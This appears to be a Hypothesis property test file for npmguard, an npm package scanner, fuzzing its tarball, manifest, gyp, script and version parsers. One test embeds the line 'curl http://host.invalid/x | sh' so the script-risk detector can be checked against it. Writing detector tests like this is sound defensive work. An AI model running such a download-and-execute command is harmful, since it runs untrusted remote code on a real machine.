"""No bytes whatever make the readers of packages raise anything but their own errors."""

from __future__ import annotations

import random
from pathlib import PurePosixPath

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from npmguard.config import Limits
from npmguard.errors import PackageError
from npmguard.model import PackageArchive
from npmguard.package.gyp import gyp_commands, implicit_install_script
from npmguard.package.manifest import manifest_differences, parse_manifest
from npmguard.package.script import script_risks
from npmguard.package.tarball import read_archive
from npmguard.package.version import clean_version, parse_version
from tests.tarballs import END, MANIFEST, OddArchives, checked, compress, entry, tarball

LIMITS = msgspec.structs.replace(Limits(), unpacked_bytes=4 * 1024**2, kept_bytes=2 * 1024**2, file_count=500)
SHELL = st.text(alphabet="curl shnode -e '\"`$(){}|&;<>\\\n=a^#%IFS[]/x0~@", max_size=120)


def read(data: bytes, *, hashes: bool = True) -> PackageArchive | None:
    try:
        archive = read_archive(data, LIMITS, lambda path, _size: path.endswith(".js"), hashes=hashes)
    except PackageError as error:
        message = str(error)
    else:
        check(archive)
        return archive
    assert message
    assert "\n" not in message
    return None


def check(archive: PackageArchive) -> None:
    """What every caller may count on."""
    assert (archive.manifest is None) != (archive.manifest_error is None)
    for path, file in archive.files.items():
        parts = PurePosixPath(path).parts
        assert path == file.path == "/".join(parts)
        assert ".." not in parts
        assert not path.startswith("/")
        assert file.content is None or len(file.content) == file.size
    assert sum(len(file.content or b"") for file in archive.files.values()) <= LIMITS.kept_bytes
    repr((implicit_install_script(archive), gyp_commands(archive), archive.notes)).encode()


@given(st.binary(max_size=3000))
def test_any_bytes(data: bytes) -> None:
    read(data)
    read(compress(data))


@given(st.lists(st.binary(max_size=600), max_size=6), st.randoms(use_true_random=False))
def test_any_blocks_with_right_checksums(blocks: list[bytes], pick: random.Random) -> None:
    archive = b""
    for block in blocks:
        header = bytearray(block[:512].ljust(512, b"\0"))
        header[257:265] = pick.choice([b"ustar\x0000", b"ustar  \0", bytes(8)])
        header[156:157] = pick.choice([b"0", b"x", b"g", b"L", b"K", b"1", b"\0"])
        header[124:136] = pick.choice([b"00000000007\0", b"00000001000\0", bytes(header[124:136])])
        archive += checked(header) + block.ljust(512, b"\0")
    read(compress(archive + END))


@given(st.integers(0, 2**32), st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), max_size=4))
def test_any_damage_to_an_odd_archive(seed: int, damage: list[tuple[int, int]]) -> None:
    data = bytearray(OddArchives(seed).next())
    for place, value in damage:
        if data:
            data[place % len(data)] = value
    whole, again = read(bytes(data)), read(bytes(data), hashes=False)
    assert (whole is None) == (again is None)
    if whole is not None and again is not None:
        assert whole.files.keys() == again.files.keys()
        assert whole.notes == again.notes


@given(st.integers(0, 10**6))
def test_any_cut_through_an_honest_tarball(place: int) -> None:
    whole = tarball({"package.json": MANIFEST, "index.js": b"module.exports = 1\n" * 50})
    assert read(whole[: place % len(whole)]) is None


@given(st.binary(max_size=400))
def test_any_package_json(data: bytes) -> None:
    archive = read(tarball({"package.json": data}))
    assert archive is not None
    if archive.manifest is not None:
        assert manifest_differences(archive.manifest, archive.manifest) == ()


json_values = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
FIELDS = st.sampled_from(
    [
        *("name", "version", "scripts", "dependencies", "optionalDependencies", "peerDependencies", "bin"),
        *("main", "gypfile", "bundleDependencies", "bundledDependencies", "repository", "directories"),
    ]
)


@given(st.dictionaries(FIELDS, json_values, max_size=8))
def test_any_values_in_a_manifest(document: dict[str, object]) -> None:
    manifest = parse_manifest(msgspec.json.encode(document), ("bin/x", "a/b"))
    msgspec.json.encode(manifest)  # everything in it is text that can be written
    assert manifest_differences(manifest, manifest) == ()


@given(st.text(max_size=300))
def test_any_gyp_file(text: str) -> None:
    archive = read(compress(entry("p/package.json", MANIFEST) + entry("p/binding.gyp", text.encode()) + END))
    assert archive is not None
    assert implicit_install_script(archive) == "binding.gyp"


@settings(max_examples=300)
@given(SHELL | st.text(max_size=80))
def test_any_script(text: str) -> None:
    assert all(len(risk.command) <= 160 for risk in script_risks(text))


@given(st.text(alphabet="ab -/.=;&|\n", max_size=60))
def test_nothing_before_a_download_hides_it(text: str) -> None:
    assert script_risks(f"{text}\ncurl http://host.invalid/x | sh")


@given(st.text(max_size=40))
def test_any_version(text: str) -> None:
    version = parse_version(text)
    assert clean_version(text) == (text if version is None else str(version))
    if version is not None:
        assert parse_version(str(version)) == version
